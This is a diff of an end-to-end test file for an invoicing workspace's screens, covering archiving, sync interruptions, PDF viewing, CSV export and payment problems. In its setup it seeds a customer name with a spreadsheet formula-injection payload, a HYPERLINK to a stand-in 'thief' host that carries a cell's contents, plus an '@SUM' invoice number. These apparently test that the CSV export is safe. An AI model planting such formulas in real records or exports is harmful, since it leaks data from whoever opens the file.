@@ -1,25 +1,25 @@
 import Papa from 'papaparse'
 import { afterAll, beforeAll, expect, it } from 'vitest'
 import type { Customer, Invoice, Item, Payment } from '../../../core/ledger/records.ts'
-import { CASES, NAMES } from '../../sandbox/quickbooks/seed/cases.ts'
 import { keyboard } from '../harness/keyboard.ts'
 import { connections, holdStore, ledgerRows } from '../harness/ledger.ts'
 import type { Place } from '../harness/places.ts'
 import { eventually, type Role, type Screen } from '../harness/screen.ts'
 import { isChromium, type Stage } from '../harness/stage.ts'
-import { connectQuickBooks, imported } from './connect.ts'
+import { imported } from './connect.ts'
 import { tell } from './worker.ts'
 
 const today = () => new Date().toISOString().slice(0, 10)
 const FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"Total")'
 
 /** What is done in the workspace every day (issue 3, points 7 to 11), on one company, through its screens. */
-export function workspace({ browser, open: openStage }: Place): void {
+export function workspace({ system, browser, open: openStage }: Place): void {
+  const { cases, names, refusals, wire } = system
   let stage: Stage
   let options: Screen
   let screen: Screen
   let connectionId: string
-  const books = () => stage.sandbox.quickbooks.company(NAMES.bayside)
+  const books = () => system.books(stage)
   const invoices = () => ledgerRows<Invoice>(options, 'invoices')
   const payments = () => ledgerRows<Payment>(options, 'payments')
   const invoiceCalled = async (number: string) =>
@@ -28,22 +28,20 @@ export function workspace({ browser, open: openStage }: Place): void {
 
   beforeAll(async () => {
     stage = await openStage()
-    const { Line } = books().invoice(CASES.open)
-    const { Id } = books().create('Customer', { DisplayName: FORMULA })
-    books().create('Invoice', { DocNumber: '@SUM(A1)', CustomerRef: { value: Id }, Line })
-    options = await connectQuickBooks(stage, NAMES.bayside)
+    books().bill(FORMULA, '@SUM(A1)', 10_000)
+    options = await system.connect(stage)
     await imported(options)
     connectionId = (await connections(options))[0]?.id ?? ''
     screen = await stage.extension('workspace.html#invoices')
-    await screen.see(CASES.open)
+    await screen.see(cases.open)
   })
   afterAll(() => stage?.close())
 
   /** An invoice of ours, sent as the form sends it. */
   async function make(number: string): Promise<string> {
-    const [item] = (await ledgerRows<Item>(options, 'items')).filter(row => row.name === 'Installation labor')
+    const [item] = (await ledgerRows<Item>(options, 'items')).filter(row => row.name === names.item)
     const [customer] = (await ledgerRows<Customer>(options, 'customers')).filter(
-      row => row.name === 'Northgate Dental',
+      row => row.name === names.customer,
     )
     const invoice = {
       number,
@@ -56,8 +54,7 @@ export function workspace({ browser, open: openStage }: Place): void {
   }
   /** One whose number is taken there: refused, and mended by the next free number. */
   async function makeRefused(number: string): Promise<string> {
-    const { CustomerRef, Line } = books().invoice(CASES.open)
-    books().create('Invoice', { DocNumber: number, CustomerRef, Line })
+    books().copyInvoice(cases.open, number)
     const id = await make(number)
     await eventually(
       `the refusal of ${number}`,
@@ -107,7 +104,7 @@ export function workspace({ browser, open: openStage }: Place): void {
 
   it('bulk: what is ticked is archived, and comes back', async () => {
     await show('invoices?status=paid')
-    await screen.see(CASES.paid)
+    await screen.see(cases.paid)
     const numbers = await screen.run<string[]>(
       `[...document.querySelectorAll('tbody th[scope=row]')].map(cell => cell.innerText)`,
     )
@@ -129,14 +126,14 @@ export function workspace({ browser, open: openStage }: Place): void {
   })
 
   it('the worker is stopped during Archive: it is done after all, or the screen says that it may not be', async () => {
-    const { id } = await invoiceCalled(CASES.voided)
-    const archived = async () => (await invoiceCalled(CASES.voided)).archivedAt
+    const { id } = await invoiceCalled(cases.voided)
+    const archived = async () => (await invoiceCalled(cases.voided)).archivedAt
     const logged = async () =>
       (await ledgerRows<{ recordId?: string; message: string }>(options, 'events')).filter(
         event => event.recordId === id && event.message === 'archived',
       )
     await show(`invoices?id=${id}`)
-    const menu = () => screen.click('button', `Actions for ${CASES.voided}`, { css: '.side-panel' })
+    const menu = () => screen.click('button', `Actions for ${cases.voided}`, { css: '.side-panel' })
     const archive = () => screen.click('menuitem', 'Archive')
     // The screen itself reads nothing while the store is held.
     await menu()
@@ -155,25 +152,20 @@ export function workspace({ browser, open: openStage }: Place): void {
     await archive()
     await stage.stopWorker()
     await again()
-    await screen.see(`Invoice ${CASES.voided} was archived.`)
+    await screen.see(`Invoice ${cases.voided} was archived.`)
     expect(await archived()).toBeDefined()
     expect(await logged()).toHaveLength(1)
-    await screen.click('button', 'Undo', { css: '.toast', text: `Invoice ${CASES.voided} was archived.` })
-    await screen.see(`Invoice ${CASES.voided} is listed again.`)
+    await screen.click('button', 'Undo', { css: '.toast', text: `Invoice ${cases.voided} was archived.` })
+    await screen.see(`Invoice ${cases.voided} is listed again.`)
     expect(await archived()).toBeUndefined()
   })
 
   it('the worker is stopped during Sync now: it goes on, nothing is lost, and the log tells', async () => {
-    const before = await invoiceCalled(CASES.partiallyPaid)
-    const { Id, CustomerRef } = books().invoice(CASES.partiallyPaid)
-    books().create('Payment', {
-      CustomerRef,
-      TotalAmt: 1,
-      Line: [{ Amount: 1, LinkedTxn: [{ TxnId: Id, TxnType: 'Invoice' }] }],
-    })
+    const before = await invoiceCalled(cases.partiallyPaid)
+    books().pay(cases.partiallyPaid, 100)
     let stopped = false
-    const end = stage.sandbox.quickbooks.onRequest(async ({ path }) => {
-      if (stopped || !path.endsWith('/cdc')) return
+    const end = system.traffic(stage).onRequest(async entry => {
+      if (stopped || !wire.asksForChanges(entry)) return
       stopped = true
       await stage.stopWorker()
     })
@@ -184,7 +176,7 @@ export function workspace({ browser, open: openStage }: Place): void {
     await eventually(
       'the change to arrive',
       async () =>
-        (await invoiceCalled(CASES.partiallyPaid)).accountingBalance === before.accountingBalance - 100,
+        (await invoiceCalled(cases.partiallyPaid)).accountingBalance === before.accountingBalance - 100,
     )
     await screen.see('Stopped')
     await eventually('the button to be free', () =>
@@ -200,9 +192,9 @@ export function workspace({ browser, open: openStage }: Place): void {
   })
 
   it('the PDF of an invoice is shown in the workspace', async () => {
-    await show(`invoices?id=${(await invoiceCalled(CASES.open)).id}`)
+    await show(`invoices?id=${(await invoiceCalled(cases.open)).id}`)
     await screen.click('button', 'PDF')
-    await screen.see(`PDF of ${CASES.open}`)
+    await screen.see(`PDF of ${cases.open}`)
     const address = await eventually('the frame', () =>
       screen.run<string>(`document.querySelector('dialog iframe.pdf')?.src`),
     )
@@ -217,7 +209,7 @@ export function workspace({ browser, open: openStage }: Place): void {
       )
     }
     const saved = await screen.saved(() => screen.click('button', 'Download'))
-    expect(saved.name).toBe(`${CASES.open}.pdf`)
+    expect(saved.name).toBe(`${cases.open}.pdf`)
     expect(saved.bytes.subarray(0, 5).toString()).toBe('%PDF-')
     await screen.press('Escape')
   })
@@ -226,7 +218,8 @@ export function workspace({ browser, open: openStage }: Place): void {
     await show('invoices')
     await screen.click('button', 'More for this page')
     const saved = await screen.saved(() => screen.click('menuitem', 'Export CSV'))
-    expect(saved.name).toMatch(/^invoices-Bayside-Lighting-Co-\d{4}-\d\d-\d\d\.csv$/)
+    expect(saved.name).toMatch(/^invoices-[A-Z][\w-]+-\d{4}-\d\d-\d\d\.csv$/)
+    expect(saved.name).toContain(books().name.split(' ')[0])
     const { data } = Papa.parse<string[]>(saved.bytes.toString().replace('\ufeff', ''), {
       skipEmptyLines: true,
     })
@@ -237,7 +230,7 @@ export function workspace({ browser, open: openStage }: Place): void {
   })
 
   it('the columns of a processor’s file are asked once', async () => {
-    const file = `When,What for,How much,How it went,Key\n${today()},${CASES.open},5.00,Settled,K-1\n`
+    const file = `When,What for,How much,How it went,Key\n${today()},${cases.open},5.00,Settled,K-1\n`
     const COLUMNS = {
       Date: 'When',
       'Invoice number': 'What for',
@@ -268,13 +261,13 @@ export function workspace({ browser, open: openStage }: Place): void {
     await options.click('switch', 'Send reminders')
     await options.see('Send reminders?')
     await options.click('button', 'Send reminders')
-    const { id, customerId } = await invoiceCalled(CASES.open)
+    const { id, customerId } = await invoiceCalled(cases.open)
     const customer = async () =>
       (await ledgerRows<Customer>(options, 'customers')).find(row => row.id === customerId)
     await show(`invoices?id=${id}`)
     await screen.click('button', 'Pause reminders')
     await screen.see('Paused for this invoice.')
-    expect((await invoiceCalled(CASES.open)).remindersPaused).toBe(true)
+    expect((await invoiceCalled(cases.open)).remindersPaused).toBe(true)
     await screen.click('button', 'Resume reminders')
     await screen.gone('Paused for this invoice.')
     await show(`customers?id=${customerId}`)
@@ -291,36 +284,26 @@ export function workspace({ browser, open: openStage }: Place): void {
   })
 
   it('attention: the badge counts the list, and each row leads to its fix', async () => {
-    const failed = await pay(CASES.overdue, 10_000)
+    const failed = await pay(cases.overdue, 10_000)
     await eventually('the payment to stand there', async () =>
       (await payments()).some(row => row.id === failed && row.standing === 'there'),
     )
     await tell(options, 'payment.status', { connectionId, id: failed, status: 'failed' })
     await makeRefused('4101')
-    const refusal = stage.sandbox.quickbooks.faults.plan({
+    const refusal = system.traffic(stage).faults.plan({
       method: 'POST',
       path: /\/payment$/,
       times: Number.POSITIVE_INFINITY,
-      fault: {
-        kind: 'fault',
-        code: '6000',
-        message: 'A business validation error has occurred',
-        detail: 'No.',
-      },
+      fault: { kind: 'fault', ...refusals.wrapper, detail: 'No.' },
     })
-    const stuck = await pay(CASES.partiallyPaid, 500)
+    const stuck = await pay(cases.partiallyPaid, 500)
     await eventually('the refusal of the payment', async () =>
       (await payments()).some(row => row.id === stuck && row.syncState === 'failed'),
     )
     refusal.remove()
     // Its invoice is paid by somebody else first.
-    const { Id, CustomerRef, Balance } = books().invoice(CASES.open)
-    books().create('Payment', {
-      CustomerRef,
-      TotalAmt: Balance - 1,
-      Line: [{ Amount: Balance - 1, LinkedTxn: [{ TxnId: Id, TxnType: 'Invoice' }] }],
-    })
-    await pay(CASES.open, 700)
+    books().pay(cases.open, books().invoice(cases.open).due - 100)
+    await pay(cases.open, 700)
     await show('attention')
     await screen.see('1 payment needs your choice')
 
@@ -347,7 +330,7 @@ export function workspace({ browser, open: openStage }: Place): void {
     await screen.gone('1 payment needs your choice')
     await eventually('the badge to follow', async () => (await badge()) === String(await rows()))
 
-    stage.sandbox.quickbooks.oauth.revokeAll()
+    system.signOut(stage)
     await show('sync-log')
     await screen.click('button', 'Sync now')
     await show('attention')
@@ -373,15 +356,15 @@ export function workspace({ browser, open: openStage }: Place): void {
       }
 
       await turnTo(/^Invoices/)
-      await screen.see(CASES.overdue)
+      await screen.see(cases.overdue)
       await keys.tabTo(/^Search number or customer/)
-      await keys.type(CASES.overdue)
-      await eventually('the search', async () => (await screen.url()).includes(`search=${CASES.overdue}`))
+      await keys.type(cases.overdue)
+      await eventually('the search', async () => (await screen.url()).includes(`search=${cases.overdue}`))
       await keys.tabTo(/^Status/)
       await keys.type('Over')
       await eventually('the filter', async () => (await screen.url()).includes('status=overdue'))
 
-      await keys.press(new RegExp(`^${CASES.overdue}$`))
+      await keys.press(new RegExp(`^${cases.overdue}$`))
       await screen.see('Activity')
       await keys.press(/^Record a payment$/)
       await screen.see('Apply to invoices')
@@ -394,21 +377,21 @@ export function workspace({ browser, open: openStage }: Place): void {
 
       await turnTo(/^Invoices/)
       await keys.tabTo(/^Search number or customer/)
-      await keys.type(CASES.paid)
-      await eventually('the search', async () => (await screen.url()).includes(`search=${CASES.paid}`))
-      await keys.press(new RegExp(`^Actions for ${CASES.paid}`))
+      await keys.type(cases.paid)
+      await eventually('the search', async () => (await screen.url()).includes(`search=${cases.paid}`))
+      await keys.press(new RegExp(`^Actions for ${cases.paid}`))
       await eventually('the menu', async () => (await keys.at()).name === 'Details')
       await keys.type('a')
       expect(await keys.at()).toEqual({ name: 'Archive', visible: true })
       await screen.press('Enter')
-      await screen.see(`Invoice ${CASES.paid} was archived.`)
+      await screen.see(`Invoice ${cases.paid} was archived.`)
       expect(await keys.at()).toMatchObject({ visible: true })
 
       await turnTo(/^Attention/)
       await keys.press(/^Use the next free number/)
       await screen.see('Change and sync again')
       await keys.press(/^Change and sync again/)
-      await screen.see(/Invoice 42\d\d stands in QuickBooks now\./)
+      await screen.see(new RegExp(`Invoice 42\\d\\d stands in ${system.called} now\\.`))
     },
   )
 }
